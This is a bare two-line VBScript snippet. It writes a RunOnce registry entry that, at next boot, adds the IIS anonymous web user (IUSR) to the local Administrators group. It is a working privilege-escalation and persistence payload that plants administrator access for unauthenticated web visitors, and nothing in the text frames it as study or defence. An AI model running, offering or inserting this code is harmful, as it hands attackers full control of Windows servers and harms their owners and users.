Set sh = CreateObject("WScript.Shell")
sh.RegWrite "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\Finish", "net localgroup Administrators IUSR /add", "REG_SZ"
